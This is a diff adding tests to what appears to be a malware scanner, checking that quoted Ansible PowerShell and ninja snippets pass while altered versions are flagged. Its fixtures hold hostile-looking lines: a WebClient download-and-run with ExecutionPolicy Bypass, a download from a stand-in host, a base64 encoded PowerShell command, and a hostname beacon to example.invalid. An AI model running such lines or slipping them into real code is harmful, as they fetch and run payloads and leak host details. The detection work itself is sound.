@@ -219,3 +219,77 @@ def test_a_services_reply_decoded_into_a_script_is_not_a_carried_payload(
         assert exam(tmp_path, f"drop{name}", {"utils.py": text}).get(payload) == (
             f"drop{name}/utils.py"
         ), name
+
+
+# ansible-core 2.14.18's ConfigureRemotingForAnsible.ps1 tells in its header how to fetch
+# and run it; the script itself configures WinRM
+_REMOTING_HEADER = """\
+#Requires -Version 3.0
+# To run this script in Powershell:
+#
+# $url = "https://raw.githubusercontent.com/ansible/ansible/devel/ConfigureRemotingForAnsible.ps1"
+# $file = "$env:temp\\\\ConfigureRemotingForAnsible.ps1"
+# (New-Object -TypeName System.Net.WebClient).DownloadFile($url, $file)
+# powershell.exe -ExecutionPolicy ByPass -File $file
+<#
+  (New-Object System.Net.WebClient).DownloadFile("https://example.invalid/a.exe", "a.exe")
+#>
+[CmdletBinding()]
+Param ([string]$SubjectName = $env:COMPUTERNAME)
+Start-Process -FilePath winrm -ArgumentList "quickconfig"
+"""
+
+# ansible-core 2.14.18's become_wrapper.ps1 starts the module it runs as another user with
+# the command it encodes at run time
+_BECOME = """\
+$exec_command = [System.Convert]::ToBase64String([System.Text.Encoding]::Unicode.GetBytes($s))
+$lp_command_line = "powershell.exe -NonInteractive -ExecutionPolicy Bypass -EncodedCommand \
+$exec_command"
+"""
+
+
+def test_powershell_comments_and_a_runtime_encoded_command_are_no_dropper(
+    tmp_path: Path,
+) -> None:
+    files = {"setup/ConfigureRemoting.ps1": _REMOTING_HEADER, "become_wrapper.ps1": _BECOME}
+    assert exam(tmp_path, "winrm", files) == {}
+    # the header's lines as code fetch and run the script
+    code = "\n".join(
+        line[2:] if line.startswith("# ") and "$" in line else line
+        for line in _REMOTING_HEADER.splitlines()
+    )
+    assert exam(tmp_path, "dropper", {"setup/ConfigureRemoting.ps1": code}) == {
+        "thr-drops-executable": "dropper/setup/ConfigureRemoting.ps1"
+    }
+    # an encoded command the script carries is a hidden payload
+    carried = _BECOME.replace('$exec_command"', 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA="')
+    assert exam(tmp_path, "carried", {"become_wrapper.ps1": carried}) == {
+        "thr-hidden-powershell": "carried/become_wrapper.ps1"
+    }
+
+
+# ninja 1.13.2's browse.py: a local web server that prints the host it listens on; unquote
+# comes from urllib.request, which opens nothing by it
+_BROWSE = """\
+import socket, webbrowser
+from urllib.request import unquote
+
+hostname = ""
+if hostname == "":
+    hostname = socket.gethostname()
+print("Web server running on %s" % hostname, unquote("a%20b"))
+webbrowser.open_new("http://%s:8000" % hostname)
+"""
+
+
+def test_a_string_helper_of_urllib_request_is_no_network_access(tmp_path: Path) -> None:
+    assert exam(tmp_path, "browse", {"browse.py": _BROWSE}) == {}
+    # the host name beside a real urllib.request connection at import is the beacon shape
+    online = _BROWSE.replace(
+        "from urllib.request import unquote", "from urllib.request import unquote, urlopen"
+    )
+    online += "urlopen('https://example.invalid/ping').read()\n"
+    assert (
+        exam(tmp_path, "online", {"browse.py": online}).get("thr-system-recon")
+        == "online/browse.py"
+    )
